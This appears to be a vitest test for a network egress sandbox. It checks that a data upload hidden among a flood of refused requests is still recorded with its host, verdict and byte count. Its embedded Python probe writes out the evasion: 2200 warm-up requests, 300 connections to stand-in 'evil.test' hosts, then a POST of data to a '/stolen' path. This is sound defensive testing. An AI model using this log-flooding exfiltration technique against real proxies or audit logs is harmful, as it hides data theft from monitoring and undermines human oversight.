// A request that hides among the folded records of a flood. Source: DESIGN §1.7 (every decision leaves a record that names its rule).
import { expect } from 'vitest';
import { forEachTier, outcomes } from '../support/attack.ts';
import { EgressBox, OTHER } from '../support/egress-box.ts';

forEachTier('what leaves in a flood of refusals is told of by its own host and verdict', async (tier) => {
  await using box = new EgressBox(tier, {
    allow: [{ id: 'web', host: 'plain.flood.test', ports: [80], protocol: 'http', paths: ['/**'] }],
  });
  const result = await box.probe(`
import urllib.parse
proxy = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
at = (proxy.hostname, proxy.port)

# Uses up what is recorded one by one.
drop = secure(OTHER)
drop.sendall(b''.join(head('GET', '/warm', (), OTHER) for _ in range(2200)))
count = b''
while count.count(b'the origin') < 2200:
    count += drop.recv(1 << 20)

# Fills the kinds that are held back, then sends.
links = [socket.create_connection(at) for _ in range(300)]
for i, link in enumerate(links):
    link.sendall(f'GET http://h{i}.evil.test/ HTTP/1.1\\r\\nHost: h{i}.evil.test\\r\\n\\r\\n'.encode())
for link in links:
    link.recv(100)
drop.sendall(head('POST', '/stolen', (), OTHER, b'z' * 4321))
report('stolen', verdict(drop.recv(4096)))
control()
`);
  expect(outcomes(result)['stolen'], result.stderr).toMatch(/^200/);
  const requests = box.records().filter(({ kind }) => kind === 'network.request');
  const sent = requests.filter(({ data }) => data['method'] === 'POST' && data['host'] === OTHER);
  expect(sent.map(({ data }) => [data['action'], data['upBytes']])).toEqual([['allow', 4321]]);
  const refused = requests.filter(({ data }) => data['action'] === 'deny');
  expect(refused.map(({ data }) => Number(data['upBytes']))).not.toContain(4321);
});
